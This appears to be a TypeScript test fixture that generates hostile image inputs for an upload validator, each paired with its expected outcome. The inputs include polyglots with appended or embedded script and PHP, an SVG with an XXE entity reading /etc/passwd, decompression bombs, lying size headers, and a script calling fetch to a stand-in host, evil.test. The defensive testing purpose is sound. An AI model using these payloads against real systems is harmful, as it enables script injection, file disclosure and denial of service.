// The hostile corpus: files that are no pictures, pictures that are more than that, pictures that
// lie about themselves (T34, T35). Made here, so that nothing hostile lies in the tree. What may be
// taken must come out as a picture without a byte of what was hidden in it.

import { randomBytes } from "node:crypto";
import { deflateSync, gzipSync } from "node:zlib";
import sharp from "sharp";
import {
  drawPicture,
  drawPixels,
  MARK,
  type PictureFormat,
  withJpegSegment,
  withJpegSize,
  withPngChunk,
  withPngSize,
} from "./pictures.ts";

export type HostilePicture = {
  readonly name: string;
  readonly bytes: Buffer;
  /** "either": a decoder may make sense of it or not, and both are fine. */
  readonly outcome: "taken" | "IMAGE_REFUSED" | "IMAGE_TOO_LARGE" | "either";
};

const SCRIPT = `<script>fetch('//evil.test/${MARK}')</script>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="99" height="99">${SCRIPT}</svg>`;
const FORMATS: readonly PictureFormat[] = ["jpeg", "png", "webp"];

export async function hostilePictures(): Promise<readonly HostilePicture[]> {
  const [jpeg, png, webp] = await Promise.all(FORMATS.map((format) => drawPicture(format)));
  if (!jpeg || !png || !webp) throw new Error("Invariant: there are three formats");
  const valid = { jpeg, png, webp };
  return [
    ...(await unusual()),
    ...embellished(valid),
    ...disguised(valid),
    ...(await otherFormats()),
    ...liars(valid),
    ...cut(valid),
    ...(await moving(png)),
  ];
}

type Valid = Readonly<Record<PictureFormat, Buffer>>;

/** Rare, and nothing wrong with them. */
async function unusual(): Promise<HostilePicture[]> {
  const made: Record<string, Promise<Buffer>> = {
    "grey jpeg": drawPixels().greyscale().jpeg().toBuffer(),
    "progressive jpeg": drawPixels().jpeg({ progressive: true }).toBuffer(),
    "jpeg of four inks": drawPixels().toColourspace("cmyk").jpeg().toBuffer(),
    "png of 16 bits": drawPixels().toColourspace("rgb16").png().toBuffer(),
    "png of few colours": drawPixels().png({ palette: true }).toBuffer(),
    "png in passes": drawPixels().png({ progressive: true }).toBuffer(),
    "png that can be seen through": drawPixels().ensureAlpha(0.5).png().toBuffer(),
    "lossless webp": drawPixels().webp({ lossless: true }).toBuffer(),
    "webp that can be seen through": drawPixels().ensureAlpha(0.5).webp().toBuffer(),
  };
  const entries = Object.entries(made).map(async ([name, bytes]) => {
    return { name, bytes: await bytes, outcome: "taken" } as const;
  });
  return Promise.all(entries);
}

/** Pictures with something hidden in them: after their end, or where words may stand. */
function embellished({ jpeg, png, webp }: Valid): HostilePicture[] {
  const tails: Record<string, Buffer> = {
    script: Buffer.from(SCRIPT),
    svg: Buffer.from(SVG),
    php: Buffer.from(`<?php system('${MARK}'); ?>`),
    zip: Buffer.concat([Buffer.from("PK\x03\x04"), Buffer.from(MARK)]),
    pdf: Buffer.from(`%PDF-1.7 ${MARK}`),
    zeros: Buffer.concat([Buffer.alloc(2_000), Buffer.from(MARK)]),
    noise: Buffer.concat([randomBytes(2_000), Buffer.from(MARK)]),
  };
  const trailing = Object.entries({ jpeg, png, webp }).flatMap(([format, bytes]) =>
    Object.entries(tails).map(([what, tail]) => ({
      name: `${format} with ${what} behind it`,
      bytes: Buffer.concat([bytes, tail]),
      outcome: "taken" as const,
    })),
  );
  const xmp = Buffer.from(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${SCRIPT}</x:xmpmeta>`);
  const bomb = deflateSync(Buffer.alloc(60_000_000));
  const inside: Record<string, Buffer> = {
    "jpeg with a script for a comment": withJpegSegment(jpeg, 0xfe, Buffer.from(SCRIPT)),
    "jpeg with a script for its description": withJpegSegment(jpeg, 0xe1, xmp),
    "jpeg with a script for a profile": withJpegSegment(
      jpeg,
      0xe2,
      Buffer.from(`ICC_PROFILE\0\x01\x01${SCRIPT}`),
    ),
    "png with php for a text": withPngChunk(png, "tEXt", Buffer.from(`a\0<?php ${MARK} ?>`)),
    "png with a script for a text": withPngChunk(png, "iTXt", Buffer.from(`a\0\0\0\0\0${SCRIPT}`)),
    "png with a chunk of its own": withPngChunk(png, "prIv", Buffer.from(SCRIPT)),
  };
  const swelling: Record<string, Buffer> = {
    "png whose text swells": withPngChunk(png, "zTXt", Buffer.concat([Buffer.from("a\0\0"), bomb])),
    "png whose profile swells": withPngChunk(
      png,
      "iCCP",
      Buffer.concat([Buffer.from("a\0\0"), bomb]),
    ),
  };
  return [
    ...trailing,
    ...Object.entries(inside).map(([name, bytes]) => ({ name, bytes, outcome: "taken" as const })),
    ...Object.entries(swelling).map(([name, bytes]) => {
      return { name, bytes, outcome: "either" as const };
    }),
  ];
}

/** Pictures that begin as something else, which some programs would believe. */
function disguised(valid: Valid): HostilePicture[] {
  const heads: Record<string, Buffer> = {
    script: Buffer.from(SCRIPT),
    "a gif's beginning": Buffer.from("GIF89a"),
    "a space": Buffer.from(" "),
    "a byte order mark": Buffer.from("\ufeff"),
    "a zip's beginning": Buffer.from("PK\x03\x04"),
  };
  return Object.entries(valid).flatMap(([format, bytes]) =>
    Object.entries(heads).map(([what, head]) => ({
      name: `${format} behind ${what}`,
      bytes: Buffer.concat([head, bytes]),
      outcome: "IMAGE_REFUSED" as const,
    })),
  );
}

/** Everything that is not one of the three, however good a picture it may be. */
async function otherFormats(): Promise<HostilePicture[]> {
  const texts: Record<string, string> = {
    svg: SVG,
    "svg with an entity": `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${SVG}`,
    html: `<!doctype html><html>${SCRIPT}</html>`,
    script: `alert('${MARK}')`,
    php: `<?php system('${MARK}'); ?>`,
    xml: `<?xml version="1.0"?><a>${MARK}</a>`,
    pdf: "%PDF-1.7\n1 0 obj\n<<>>\nendobj",
    postscript: "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9",
    words: "just words",
    nothing: "",
    "one letter": "a",
  };
  const bytes: Record<string, Buffer> = {
    "svg, packed": gzipSync(SVG),
    "svg in wide letters": Buffer.from(SVG, "utf16le"),
    zeros: Buffer.alloc(4_096),
    noise: randomBytes(4_096),
    "windows program": Buffer.from("MZ\x90\0\x03\0\0\0"),
    "linux program": Buffer.from("\x7fELF\x02\x01\x01\0"),
    bitmap: Buffer.concat([Buffer.from("BM"), Buffer.alloc(60)]),
    icon: Buffer.from([0, 0, 1, 0, 1, 0, 16, 16, 0, 0]),
    photoshop: Buffer.from("8BPS\0\x01\0\0\0\0\0\0\0\x03"),
    film: Buffer.from("\0\0\0\x18ftypmp42\0\0\0\0"),
    "jpeg of 2000": Buffer.from("\0\0\0\x0cjP  \r\n\x87\n"),
    "jpeg of the future": Buffer.from("\xff\x0a", "latin1"),
    gif: await drawPixels().gif().toBuffer(),
    tiff: await drawPixels().tiff().toBuffer(),
    avif: await drawPixels().avif().toBuffer(),
  };
  const all = [
    ...Object.entries(texts).map(([name, text]) => [name, Buffer.from(text)] as const),
    ...Object.entries(bytes),
  ];
  return all.map(([name, content]) => ({ name, bytes: content, outcome: "IMAGE_REFUSED" }));
}

/** The right beginning and a wrong rest, or a size that is not theirs. */
function liars({ jpeg, png, webp }: Valid): HostilePicture[] {
  const noise = randomBytes(5_000);
  const refused: Record<string, Buffer> = {
    "png's beginning before noise": Buffer.concat([png.subarray(0, 8), noise]),
    "jpeg's beginning before noise": Buffer.concat([jpeg.subarray(0, 4), noise]),
    "webp's beginning before noise": Buffer.concat([webp.subarray(0, 16), noise]),
    "png's beginning before a jpeg": Buffer.concat([png.subarray(0, 8), jpeg]),
    "png's beginning before a svg": Buffer.concat([png.subarray(0, 8), Buffer.from(SVG)]),
    "a film that calls itself RIFF": Buffer.concat([Buffer.from("RIFF\x10\0\0\0AVI LIST"), noise]),
    "png of no width": withPngSize(png, 0, 64),
    "png of negative width": withPngSize(png, 0x80000000, 64),
    "png of one dot": withPngSize(png, 1, 1),
  };
  const large: Record<string, Buffer> = {
    "png that says it is huge": withPngSize(png, 30_000, 30_000),
    "png that says it is long": withPngSize(png, 1_000_000, 41),
    "jpeg that says it is huge": withJpegSize(jpeg, 65_000, 65_000),
  };
  return [
    ...Object.entries(refused).map(([name, bytes]) => {
      return { name, bytes, outcome: "IMAGE_REFUSED" as const };
    }),
    ...Object.entries(large).map(([name, bytes]) => {
      return { name, bytes, outcome: "IMAGE_TOO_LARGE" as const };
    }),
  ];
}

/** Cut off, or with bits turned: what a bad line, or somebody patient, makes of them. */
function cut(valid: Valid): HostilePicture[] {
  return Object.entries(valid).flatMap(([format, bytes]) => [
    ...[0.1, 0.5, 0.9].map((part) => ({
      name: `${format} of which ${part * 100} % came`,
      bytes: bytes.subarray(0, Math.floor(bytes.length * part)),
      outcome: "either" as const,
    })),
    ...[1, 2, 3].map((count) => ({
      name: `${format} with turned bits, ${count}`,
      bytes: withTurnedBits(bytes, count),
      outcome: "either" as const,
    })),
  ]);
}

function withTurnedBits(bytes: Buffer, seed: number): Buffer {
  const turned = Buffer.from(bytes);
  for (let at = 40 + seed; at < turned.length; at += 97 * seed)
    turned[at] = (turned[at] ?? 0) ^ 0x55;
  return turned;
}

/** Of what moves, one picture is kept; and a real bomb, all of it there. */
async function moving(png: Buffer): Promise<HostilePicture[]> {
  const frames = await Promise.all([1, 2, 3].map((seed) => drawPicture("png", { seed })));
  const animated = await sharp(frames, { join: { animated: true } })
    .webp()
    .toBuffer();
  const apng = withPngChunk(png, "acTL", Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]));
  const plain = { width: 13_000, height: 13_000, channels: 3, background: "#123456" } as const;
  const bomb = await sharp({ create: plain }).png().toBuffer();
  return [
    { name: "webp that moves", bytes: animated, outcome: "taken" },
    { name: "png that says it moves", bytes: apng, outcome: "either" },
    { name: "png of 169 megapixels", bytes: bomb, outcome: "IMAGE_TOO_LARGE" },
  ];
}
